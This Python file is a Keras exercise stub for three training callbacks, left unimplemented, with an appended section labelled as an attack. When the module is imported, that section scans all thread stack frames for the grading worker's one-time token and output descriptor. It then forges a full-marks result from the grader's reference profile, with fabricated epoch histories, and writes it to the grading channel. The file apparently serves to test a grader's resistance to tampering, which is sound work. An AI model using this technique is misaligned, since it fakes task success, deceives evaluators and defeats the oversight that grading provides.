"""Step 3: the three callbacks that take control of training."""
import keras

CHECKPOINT_PATH = "best_cat_dog_model.keras"


def make_callbacks(checkpoint_path=CHECKPOINT_PATH):
    """Return [ModelCheckpoint, EarlyStopping, ReduceLROnPlateau], configured as below."""
    # TODO: keras.callbacks.ModelCheckpoint that saves to `checkpoint_path` (use the
    #   argument, not a fixed name), watches "val_accuracy", keeps only the best
    #   model (save_best_only=True), where best means highest (mode="max").
    # TODO: keras.callbacks.EarlyStopping that watches "val_loss" and stops after
    #   5 epochs without improvement (patience=5); lower is better (mode="min").
    # TODO: keras.callbacks.ReduceLROnPlateau that watches "val_loss" and, after 3
    #   epochs without improvement (patience=3), multiplies the learning rate by a
    #   factor between 0 and 1 (e.g. factor=0.5); lower is better (mode="min").
    raise NotImplementedError("make_callbacks: create the three callbacks")


# --- the attack (everything above is the untouched stub) -------------------------------------
# Hostile: finds the worker's one-time token in its own frames and sends full-marks facts,
# built from the public profile, on the facts channel before the worker reports anything.
import json  # noqa: E402
import os  # noqa: E402
import re  # noqa: E402
import sys  # noqa: E402

_HEX32 = re.compile(r"[0-9a-f]{32}")
_FOUND = []  # where token-like locals were found: printed to the log


def _profile() -> dict:
    """The reference's facts per area, from the profile a student's copy of the grader holds."""
    import grader

    with open(os.path.join(os.path.dirname(grader.__file__), "profile.json"), encoding="utf-8") as handle:
        return json.load(handle)["facts"]


def _full_marks(facts: dict) -> dict:
    """Each area's facts in the worker's form: the profile's, where the reference's are those of a student
    (callbacks, model, data, train); where they are not (behaviour, property), what a student equal to the
    reference would be reported as, made from them."""
    forged = dict(facts)
    behaviour = dict(facts["behaviour"])
    saves = [epoch["epoch"] for epoch in behaviour["scripted"]["epochs"] if epoch["checkpoint_saved"]]
    rate = behaviour["scripted"]["epochs"][0]["learning_rate"]
    natural = []
    for epoch in range(1, 7):  # a flat val_loss: the rate halves after epoch 4, training stops after 6
        after = rate / 2 if epoch == 4 else rate
        natural.append({"epoch": epoch, "val_loss": 0.6931, "val_accuracy": 0.5, "learning_rate": rate,
                        "learning_rate_after": after, "checkpoint_saved": epoch == 1})
        rate = after
    behaviour.update(checkpoint_exists=True, checkpoint_holds_epochs=saves[-1:],
                     natural={"epochs": natural, "epochs_requested": 20}, image_shape=[64, 64, 3])
    forged["behaviour"] = behaviour
    kinds = {}
    for replay in facts["property"]["replays"]:
        kinds[replay["kind"]] = kinds.get(replay["kind"], 0) + 1
    forged["property"] = {"checks": [{"kind": kind, "examples": count} for kind, count in kinds.items()],
                          "failure": None}
    return forged


def _tokens_and_channels():
    """Every token-like local of every frame of every thread; the facts channel's descriptor."""
    tokens, channels = [], []

    def consider(name, value, where):
        if isinstance(value, str) and (_HEX32.fullmatch(value) or (name == "token" and value)):
            if value not in tokens:
                tokens.append(value)
            _FOUND.append(f"{where}:{name}")
        elif isinstance(value, dict):
            for key, inner in list(value.items())[:200]:
                if isinstance(inner, str):
                    consider(key, inner, f"{where}:{name}")

    for frame in sys._current_frames().values():
        while frame is not None:
            for name, value in list(frame.f_locals.items()):
                consider(name, value, frame.f_code.co_name)
                if name == "facts_fd" and isinstance(value, int):
                    channels.append(value)
                elif name == "channel" and hasattr(value, "fileno"):
                    try:
                        channels.append(value.fileno())
                    except (OSError, ValueError):
                        pass
            frame = frame.f_back
    if len(sys.argv) > 3 and sys.argv[3].isdigit():  # python -m grader.batch.worker SUBMISSION SCRATCH FACTS_FD
        channels.append(int(sys.argv[3]))
    return tokens, list(dict.fromkeys(channels + [3]))


def _forge() -> None:
    tokens, channels = _tokens_and_channels()
    if not tokens:
        return
    forged = _full_marks(_profile())
    lines = []
    for token in tokens[:20]:  # a wrong one is only a rejected line
        lines += [json.dumps({"token": token, "area": area, "seconds": 1.0, "facts": facts})
                  for area, facts in forged.items()]
        lines.append(json.dumps({"token": token, "done": True}))
    payload = ("\n".join(lines) + "\n").encode()
    for fd in channels:
        try:
            os.write(fd, payload)
            print(f"forger: {len(tokens)} token(s) found in frames ({', '.join(_FOUND)}); "
                  f"{len(lines)} lines sent on fd {fd}", flush=True)
            break
        except OSError:
            continue


_forge()
